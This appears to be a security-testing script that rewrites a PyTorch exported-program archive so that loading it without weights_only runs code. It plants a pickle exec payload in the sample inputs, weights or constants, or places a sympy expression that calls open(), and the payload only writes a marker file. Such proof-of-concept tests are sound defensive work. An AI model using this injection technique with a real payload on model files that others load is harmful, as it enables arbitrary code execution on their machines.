#!/usr/bin/env python3
"""Writes a copy of an exported-program archive (torch.export.save, or a
package_pt2 archive holding models/<name>.json) whose pickled part runs code
when it is unpickled without weights_only: it creates MARKER.

  make_hostile_ep.py SRC DST MARKER --part sample_inputs|weight|legacy_weights|opaque_constant

  sample_inputs    data/sample_inputs/<model>.pt (always unpickled on load)
  weight           the first weight, switched to use_pickle
  legacy_weights   data/weights/<model>.pt (the legacy weights file, read first)
  opaque_constant  a constant saved with plain pickle (torch 2.13+; exit 3 on
                   a torch without opaque constants)
  sym_expr         no pickle: a tensor size in models/<model>.json written as
                   a symbolic expression that calls open() (the deserializer
                   parses those with sympy.sympify, which evaluates Python)

Only the standard library and torch.save (which pickles the object) are used.
"""

import argparse
import io
import json
import sys
import zipfile


class RunsCode:
    """Unpickling this (unsafely) writes the marker file."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        code = f"open({self.marker!r}, 'w').write('unpickled code ran\\n')"
        return (exec, (code,))


def pickled(obj):
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def main():
    p = argparse.ArgumentParser()
    p.add_argument("src")
    p.add_argument("dst")
    p.add_argument("marker")
    p.add_argument("--part", default="sample_inputs",
                   choices=["sample_inputs", "weight", "legacy_weights", "opaque_constant", "sym_expr"])
    a = p.parse_args()

    with zipfile.ZipFile(a.src) as z:
        entries = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    names = [n for n, _ in entries]
    model_json = next(n for n in names if "/models/" in "/" + n and n.endswith(".json"))
    top = model_json[: model_json.index("models/")]  # "" or "<folder>/"
    model = model_json[len(top) + len("models/"): -len(".json")]
    evil = RunsCode(a.marker)
    out = dict(entries)

    if a.part == "sample_inputs":
        out[f"{top}data/sample_inputs/{model}.pt"] = pickled(((evil,), {}))
    elif a.part == "weight":
        cfg_name = f"{top}data/weights/{model}_weights_config.json"
        cfg = json.loads(out[cfg_name])
        fqn, meta = next(iter(cfg["config"].items()))
        meta["use_pickle"] = True
        out[f"{top}data/weights/{meta['path_name']}"] = pickled(evil)
        out[cfg_name] = json.dumps(cfg).encode()
    elif a.part == "legacy_weights":
        out[f"{top}data/weights/{model}.pt"] = pickled({"w": evil})
    elif a.part == "opaque_constant":
        try:
            from torch.export.pt2_archive import _package as pt2
            prefix = pt2.OPAQUE_OBJ_FILENAME_PREFIX
        except (ImportError, AttributeError):
            print("this torch has no opaque constants", file=sys.stderr)
            return 3
        import pickle

        cfg_name = f"{top}data/constants/{model}_constants_config.json"
        cfg = json.loads(out[cfg_name])
        path = f"{prefix}0"
        cfg["config"]["hostile"] = {"path_name": path, "is_param": False, "use_pickle": True, "tensor_meta": None}
        out[f"{top}data/constants/{path}"] = pickle.dumps(evil)
        out[cfg_name] = json.dumps(cfg).encode()

    elif a.part == "sym_expr":
        ep = json.loads(out[model_json])
        values = ep["graph_module"]["graph"]["tensor_values"]
        meta = next(v for v in values.values() if v["sizes"] and "as_int" in v["sizes"][0])
        hint = meta["sizes"][0]["as_int"]
        code = f"open({a.marker!r}, 'w')"
        meta["sizes"][0] = {"as_expr": {"expr_str": code, "hint": {"as_int": hint}}}
        out[model_json] = json.dumps(ep).encode()

    with zipfile.ZipFile(a.dst, "w", zipfile.ZIP_STORED) as z:
        for name in names + [n for n in out if n not in names]:
            z.writestr(name, out[name])
    return 0


if __name__ == "__main__":
    sys.exit(main())
